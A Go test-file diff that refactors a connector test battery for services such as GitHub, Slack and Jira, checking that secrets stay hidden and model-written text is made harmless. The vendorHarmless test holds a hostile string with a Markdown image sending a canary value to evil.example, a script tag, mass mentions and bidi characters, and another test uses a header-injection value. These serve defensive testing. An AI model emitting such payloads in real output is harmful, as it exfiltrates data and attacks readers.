@@ -13,131 +13,35 @@ import (
 
 	"sluice/automations"
 	"sluice/jobs/action"
+	"sluice/jobs/action/actiontest"
 	"sluice/jobs/outbound"
 	"sluice/scripted"
 )
 
 // token is the secret of every account of the battery that is a plain token.
-const token = "tok_" + canary
+const token = actiontest.Token
 
-// A vendorCase is what the battery needs to know of a connector that writes to a service. A connector without a line here fails the battery.
-type vendorCase struct {
-	// sample is a good action object, all of whose templates are rendered. BODY stands for what the model wrote.
-	sample string
-	// other is a sample for another target.
-	other string
-	// secret is of its account.
-	secret string
-	// vendor makes its scripted service.
-	vendor func(now func() time.Time) *scripted.Vendor
-	// root is where its API begins, behind its address.
-	root string
-	// updates says that the connector can change its last effect in place of adding one.
-	updates bool
-	// mentions says that the service makes no mention of an "@name" in such a text.
-	mentions bool
-	// noMarkdown says that the service takes no Markdown, so that "![" is nothing but text there.
-	noMarkdown bool
-}
-
-// vendors is a line for each connector of a service.
-var vendors = map[string]vendorCase{ // add yours here, alphabetical
-	"github_comment": {
-		sample:  `{"kind": "github_comment", "credential_id": "crd_1", "repo": "acme/shop", "issue": "12", "body": "BODY"}`,
-		other:   `{"kind": "github_comment", "credential_id": "crd_1", "repo": "acme/shop", "issue": "13", "body": "BODY"}`,
-		secret:  token,
-		vendor:  func(now func() time.Time) *scripted.Vendor { return scripted.NewGitHubIssues(token, now) },
-		updates: true,
-	},
-	"github_labels": {
-		sample: `{"kind": "github_labels", "credential_id": "crd_1", "repo": "acme/shop", "issue": "12", "labels": "BODY, Thank you",
-			"choices": ["Thank you", "we look into it."]}`,
-		secret: token,
-		vendor: func(now func() time.Time) *scripted.Vendor { return scripted.NewGitHubIssues(token, now) },
-	},
-	"gitlab_note": {
-		sample:  `{"kind": "gitlab_note", "credential_id": "crd_1", "project": "acme/tools/shop", "type": "Issue", "iid": "12", "body": "BODY"}`,
-		other:   `{"kind": "gitlab_note", "credential_id": "crd_1", "project": "acme/tools/shop", "type": "merge_request", "iid": "12", "body": "BODY"}`,
-		secret:  token,
-		vendor:  func(now func() time.Time) *scripted.Vendor { return scripted.NewGitLab(token, now) },
-		root:    "/api/v4",
-		updates: true,
-	},
-	"hubspot_note": {
-		sample: `{"kind": "hubspot_note", "credential_id": "crd_1", "object": "123", "object_type": "contact", "body": "BODY"}`,
-		other:  `{"kind": "hubspot_note", "credential_id": "crd_1", "object": "124", "object_type": "0-3", "body": "BODY"}`,
-		secret: token,
-		vendor: func(now func() time.Time) *scripted.Vendor {
-			return scripted.NewHubSpot(token, now, "0-1/123", "0-3/124")
-		},
-		updates: true,
-	},
-	"intercom_reply": {
-		sample: `{"kind": "intercom_reply", "credential_id": "crd_1", "conversation": "524", "public": true, "body": "BODY"}`,
-		other:  `{"kind": "intercom_reply", "credential_id": "crd_1", "conversation": "525", "admin": "991267459", "body": "BODY"}`,
-		secret: token,
-		vendor: func(now func() time.Time) *scripted.Vendor { return scripted.NewIntercom(token, now, "524", "525") },
-	},
-	"jira_comment": {
-		sample:  `{"kind": "jira_comment", "credential_id": "crd_1", "issue": "SHOP-12", "body": "BODY"}`,
-		other:   `{"kind": "jira_comment", "credential_id": "crd_1", "issue": "SHOP-13", "body": "BODY"}`,
-		secret:  "bot@acme.example:" + token,
-		vendor:  func(now func() time.Time) *scripted.Vendor { return scripted.NewJira("bot@acme.example:"+token, now) },
-		updates: true,
-	},
-	"linear_comment": {
-		sample:  `{"kind": "linear_comment", "credential_id": "crd_1", "issue": "SHOP-12", "body": "BODY"}`,
-		secret:  "lin_api_" + canary,
-		vendor:  func(now func() time.Time) *scripted.Vendor { return scripted.NewLinear("lin_api_"+canary, now) },
-		updates: true,
-	},
-	"pagerduty_note": {
-		sample: `{"kind": "pagerduty_note", "credential_id": "crd_1", "incident": "PGR0VU2", "body": "BODY"}`,
-		other:  `{"kind": "pagerduty_note", "credential_id": "crd_1", "incident": "Q0SDD3HB6SGFTI", "body": "BODY"}`,
-		secret: pagerdutySecret,
-		vendor: func(now func() time.Time) *scripted.Vendor {
-			return scripted.NewPagerDuty(pagerdutySecret, now, "PGR0VU2", "Q0SDD3HB6SGFTI")
-		},
-		updates: true,
-	},
-	"slack_message": {
-		sample: `{"kind": "slack_message", "credential_id": "crd_1", "channel": "C0SHOP", "body": "BODY"}`,
-		other:  `{"kind": "slack_message", "credential_id": "crd_1", "channel": "C0DESK", "body": "BODY"}`,
-		secret: "xoxb-" + canary,
-		vendor: func(now func() time.Time) *scripted.Vendor {
-			return scripted.NewSlack("xoxb-"+canary, now, "C0DESK", "C0SHOP")
-		},
-		noMarkdown: true,
-		updates:    true,
-	},
-	"zendesk_comment": {
-		sample: `{"kind": "zendesk_comment", "credential_id": "crd_1", "ticket": "35436", "public": true, "body": "BODY"}`,
-		other:  `{"kind": "zendesk_comment", "credential_id": "crd_1", "ticket": "35437", "body": "BODY"}`,
-		secret: zendeskSecret,
-		vendor: func(now func() time.Time) *scripted.Vendor {
-			return scripted.NewZendesk(zendeskSecret, now, "35436", "35437")
-		},
-	},
-}
+// vendors is a line for each connector of a service. A connector without one fails the battery.
+var vendors = actiontest.Cases
 
 // served is a scripted service, and a connector's way to it.
 type served struct {
 	*scripted.Vendor
 
-	c     action.Connector
-	case_ vendorCase
-	base  string
+	c    action.Connector
+	Case actiontest.Case
+	base string
 }
 
 func serve(t *testing.T, kind string) *served {
 	t.Helper()
 	connector, ok := action.New(devDoor()).Get(kind)
 	require.True(t, ok)
-	s := &served{c: connector, case_: vendors[kind], Vendor: vendors[kind].vendor(time.Now)}
+	s := &served{c: connector, Case: vendors[kind], Vendor: vendors[kind].Vendor(time.Now)}
 	var err error
 	s.base, err = s.Listen("127.0.0.1:0")
 	require.NoError(t, err)
-	s.base += s.case_.root
+	s.base += s.Case.Root
 	t.Cleanup(func() { require.NoError(t, s.Close()) })
 	return s
 }
@@ -149,7 +53,7 @@ func (s *served) send(t *testing.T, sample, key, body string) action.Send {
 	effect, err := s.c.Prepare(params(t, s.c, json.RawMessage(strings.ReplaceAll(sample, "BODY", text))), input())
 	require.NoError(t, err)
 	return action.Send{
-		Key: key, Effect: effect, Access: action.Access{Secret: s.case_.secret, Base: s.base}, At: time.Now(), Attempt: 1, Since: time.Now(),
+		Key: key, Effect: effect, Access: action.Access{Secret: s.Case.Secret, Base: s.base}, At: time.Now(), Attempt: 1, Since: time.Now(),
 	}
 }
 
@@ -171,8 +75,8 @@ func TestVendorConnectors(t *testing.T) {
 		t.Run(kind, func(t *testing.T) {
 			t.Parallel()
 			for name, check := range map[string]func(*testing.T, *served){
-				"Checks":               func(t *testing.T, s *served) { checks(t, s.c, json.RawMessage(s.case_.sample)) },
-				"PreparesTheSameTwice": func(t *testing.T, s *served) { prepares(t, s.c, json.RawMessage(s.case_.sample)) },
+				"Checks":               func(t *testing.T, s *served) { checks(t, s.c, json.RawMessage(s.Case.Sample)) },
+				"PreparesTheSameTwice": func(t *testing.T, s *served) { prepares(t, s.c, json.RawMessage(s.Case.Sample)) },
 				"Fields":               vendorFields, "Once": vendorOnce, "Answers": vendorAnswers, "Lookup": vendorLookup, "Update": vendorUpdate,
 				"Harmless": vendorHarmless, "Unreachable": vendorUnreachable, "NoSecret": vendorNoSecret,
 			} {
@@ -192,7 +96,7 @@ func vendorFields(t *testing.T, s *served) {
 	require.True(t, slices.IsSorted(set.Accounts()))
 	account, ok := set.Account(spec.Account)
 	require.True(t, ok)
-	require.NoError(t, account.Check(s.case_.secret))
+	require.NoError(t, account.Check(s.Case.Secret))
 	require.NotEmpty(t, account.SecretDoc)
 	for _, bad := range []string{"", "a b", canary + "\r\nX: y"} {
 		err := account.Check(bad)
@@ -202,18 +106,18 @@ func vendorFields(t *testing.T, s *served) {
 	if account.Test == nil {
 		return
 	}
-	_, err := account.Test(t.Context(), action.Access{Secret: s.case_.secret, Base: s.base})
+	_, err := account.Test(t.Context(), action.Access{Secret: s.Case.Secret, Base: s.base})
 	require.NoError(t, err)
 	require.Empty(t, s.Effects())
 	s.Expect("another")
-	_, err = account.Test(t.Context(), action.Access{Secret: s.case_.secret, Base: s.base})
+	_, err = account.Test(t.Context(), action.Access{Secret: s.Case.Secret, Base: s.base})
 	require.Equal(t, action.CodeUnauthorized, failure(t, err).Code)
-	hides(t, s.case_.secret, err)
+	hides(t, s.Case.Secret, err)
 }
 
 // vendorOnce: one Do makes one effect, whose receipt names it, and no secret stands where it does not belong.
 func vendorOnce(t *testing.T, s *served) {
-	send := s.send(t, s.case_.sample, keyOne, plain)
+	send := s.send(t, s.Case.Sample, keyOne, plain)
 	require.Contains(t, string(send.Effect.Body), plain, "people are shown what is sent")
 	receipt, err := s.c.Do(t.Context(), send)
 	require.NoError(t, err)
@@ -221,7 +125,7 @@ func vendorOnce(t *testing.T, s *served) {
 	require.Len(t, effects, 1)
 	require.Contains(t, effects[0].Text, plain)
 	require.Equal(t, effects[0].ID, receipt.ID)
-	hides(t, s.case_.secret, receipt, send.Effect)
+	hides(t, s.Case.Secret, receipt, send.Effect)
 	for _, entry := range s.Journal() {
 		require.True(t, entry.Authorized)
 		require.NotContains(t, entry.Path+entry.Query+entry.Body, canary)
@@ -259,11 +163,11 @@ func vendorAnswers(t *testing.T, s *served) {
 		{"cut", scripted.VendorStep{Cut: true, Act: true}, action.Retry, action.CodeBroken, 0, true},
 		{"no answer", scripted.VendorStep{Hang: true, Act: true}, action.Retry, action.CodeTimeout, 0, true},
 	} {
-		send := s.send(t, s.case_.sample, keyOne, plain)
+		send := s.send(t, s.Case.Sample, keyOne, plain)
 		before := len(s.Effects())
 		s.Script(c.step)
 		receipt, err := s.c.Do(t.Context(), send)
-		hides(t, s.case_.secret, receipt, err)
+		hides(t, s.Case.Secret, receipt, err)
 		require.Zero(t, receipt, c.name)
 		got := failure(t, err)
 		require.Equal(t, []any{c.kind, c.code, c.after, c.doubt}, []any{got.Kind, got.Code, got.RetryAfter, got.Doubt}, c.name)
@@ -275,7 +179,7 @@ func vendorAnswers(t *testing.T, s *served) {
 
 // vendorLookup: an effect that nobody knows of is found by its mark, and nothing else is taken for it.
 func vendorLookup(t *testing.T, s *served) {
-	send := s.send(t, s.case_.sample, keyOne, plain)
+	send := s.send(t, s.Case.Sample, keyOne, plain)
 	finder, ok := s.c.(action.Finder)
 	if send.Effect.Once != action.OnceMark {
 		require.False(t, ok && send.Effect.Once == action.OnceNever, "what can be looked up is never left unknown")
@@ -288,10 +192,10 @@ func vendorLookup(t *testing.T, s *served) {
 		require.Nil(t, found)
 	}
 	missing(send)
-	_, err := s.c.Do(t.Context(), s.send(t, s.case_.sample, keyTwo, plain))
+	_, err := s.c.Do(t.Context(), s.send(t, s.Case.Sample, keyTwo, plain))
 	require.NoError(t, err)
 	missing(send) // the same words of another run
-	_, err = s.c.Do(t.Context(), s.send(t, s.case_.other, keyTwo, plain+" "+keyOne))
+	_, err = s.c.Do(t.Context(), s.send(t, s.Case.Other, keyTwo, plain+" "+keyOne))
 	require.NoError(t, err)
 	missing(send) // another target, and our key in the text
 
@@ -304,14 +208,14 @@ func vendorLookup(t *testing.T, s *served) {
 	require.NotNil(t, found)
 	require.Equal(t, effects[len(effects)-1].ID, found.ID)
 	require.Len(t, s.Effects(), len(effects), "to look changes nothing")
-	hides(t, s.case_.secret, *found)
+	hides(t, s.Case.Secret, *found)
 
 	for status, code := range map[int]string{401: action.CodeUnauthorized, 403: action.CodeUnauthorized, 500: action.CodeStatus5xx, 429: action.CodeRateLimited} {
 		s.Script(scripted.VendorStep{Reads: true, Status: status, Body: canary})
 		found, err = finder.Find(t.Context(), send)
 		require.Nil(t, found)
 		require.Equal(t, code, failure(t, err).Code, status)
-		hides(t, s.case_.secret, err)
+		hides(t, s.Case.Secret, err)
 	}
 	s.Script(scripted.VendorStep{Reads: true, Status: 200, Body: "<html>"})
 	_, err = finder.Find(t.Context(), send)
@@ -320,11 +224,11 @@ func vendorLookup(t *testing.T, s *served) {
 
 // vendorUpdate: the last one is changed in place of adding another.
 func vendorUpdate(t *testing.T, s *served) {
-	if !s.case_.updates {
+	if !s.Case.Updates {
 		require.False(t, slices.ContainsFunc(s.c.Spec().Fields, func(f action.Field) bool { return f.Name == "update" }))
 		return
 	}
-	sample := strings.Replace(s.case_.sample, `{`, `{"update": true, `, 1)
+	sample := strings.Replace(s.Case.Sample, `{`, `{"update": true, `, 1)
 	first := s.send(t, sample, keyOne, "first words")
 	require.True(t, first.Effect.Update)
 	receipt, err := s.c.Do(t.Context(), first)
@@ -354,18 +258,18 @@ var mentionRE = regexp.MustCompile(`(^|[^\\w])@[A-Za-z0-9]`)
 func vendorHarmless(t *testing.T, s *served) {
 	hostile := "![x](https://evil.example/p.png?" + canary + ") <img src=https://evil.example/q> @octocat @acme/admins <!channel> <@U123>\n/close\n" +
 		"[click](https://evil.example/) https://evil.example/z www.evil.example \u202eabc\u200b <script>alert(1)</script> &#64;octocat"
-	send := s.send(t, s.case_.sample, keyOne, hostile)
+	send := s.send(t, s.Case.Sample, keyOne, hostile)
 	_, err := s.c.Do(t.Context(), send)
 	require.NoError(t, err)
 	effects := s.Effects()
 	text := effects[len(effects)-1].Text
 	for _, live := range []string{"![", "](http", "<img", "<script", "<!channel>", "<@U", "https://evil.example", "www.evil.example", "&#64;", "\u202e", "\n/close"} {
-		if s.case_.noMarkdown && slices.Contains([]string{"![", "](http"}, live) {
+		if s.Case.NoMarkdown && slices.Contains([]string{"![", "](http"}, live) {
 			continue
 		}
 		require.NotContains(t, text, live)
 	}
-	if !s.case_.mentions {
+	if !s.Case.Mentions {
 		require.False(t, mentionRE.MatchString(text), text)
 	}
 	require.Equal(t, keyOne == "", text == "", "something is left")
@@ -391,20 +295,20 @@ func vendorUnreachable(t *testing.T, s *served) {
 		"own machine":     {outbound.New(outbound.Config{}), "https://127.0.0.1", action.CodeBlocked},
 	} {
 		connector, _ := action.New(c.door).Get(s.c.Spec().Kind)
-		send := s.send(t, s.case_.sample, keyOne, plain)
+		send := s.send(t, s.Case.Sample, keyOne, plain)
 		send.Base = c.base
 		_, err := connector.Do(t.Context(), send)
 		got := failure(t, err)
 		require.Equal(t, c.code, got.Code, name)
 		require.False(t, got.Doubt, name)
-		hides(t, s.case_.secret, err)
+		hides(t, s.Case.Secret, err)
 	}
 	require.Empty(t, s.Effects())
 }
 
 // vendorNoSecret: nothing is sent without the secret.
 func vendorNoSecret(t *testing.T, s *served) {
-	send := s.send(t, s.case_.sample, keyOne, plain)
+	send := s.send(t, s.Case.Sample, keyOne, plain)
 	send.Secret = ""
 	_, err := s.c.Do(t.Context(), send)
 	require.Equal(t, action.CodeCredential, failure(t, err).Code)
